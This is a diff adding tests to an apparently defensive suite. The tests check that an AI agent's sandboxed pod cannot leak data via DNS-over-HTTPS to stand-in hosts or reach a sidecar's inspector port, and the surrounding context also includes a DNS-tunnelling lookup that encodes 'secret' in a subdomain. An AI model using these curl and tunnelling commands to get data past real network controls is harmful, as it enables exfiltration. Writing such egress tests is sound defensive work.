@@ -128,6 +128,15 @@ describe('no packet leaves', () => {
     await expectNothingLeft()
   })
 
+  test.each([
+    ['by its name', 'https://dns.example/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'],
+    ['by its address', 'https://198.51.100.53/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'],
+  ])('as DNS over HTTPS to a server that is known %s', async (_how, url) => {
+    const asked = await inAgent(POD, ['curl', '-sS', '-m', '5', '-k', '-w', '%{http_code}', url])
+    expect(asked.stdout).not.toMatch(/2\d\d$/)
+    await expectNothingLeft()
+  })
+
   test('as a question for a name that says what is to be told', async () => {
     const said = await python(attempt("print(socket.getaddrinfo('c2VjcmV0.tunnel.example.com', 443))"))
     expect(said).toContain('gaierror')
@@ -168,6 +177,22 @@ describe('the agent cannot reach into the sidecar', () => {
     for (const port of [15_021, 9_229])
       expect(await python(connect('AF_INET', '127.0.0.1', port))).toContain('ConnectionRefused')
     expect((await inAgent(POD, ['sh', '-c', 'ls /var/run/chaperone /var/lib/chaperone'])).code).not.toBe(0)
+  })
+
+  test('nor by an inspector, whoever signals that it wants one: its ports are those of the capture and of the kubelet', async () => {
+    await node.askForInspector(POD)
+    const listening = `
+found = set()
+for file in ('/proc/net/tcp', '/proc/net/tcp6'):
+  for line in open(file).read().splitlines()[1:]:
+    fields = line.split()
+    if fields[3] == '0A': found.add(int(fields[1].rsplit(':', 1)[1], 16))
+print(sorted(found))`
+    for (let look = 0; look < 5; look += 1) {
+      expect(JSON.parse(await python(listening))).toEqual([15_001, 15_021, 15_053, 15_080, 15_443])
+      expect(await python(connect('AF_INET', '127.0.0.1', 9_229))).toContain('ConnectionRefused')
+    }
+    expect((await inAgent(POD, CALLS.node('GET'))).stdout).toMatch(/^200/)
   })
 
   test('and finds neither the credential nor a token in anything that it can read', async () => {
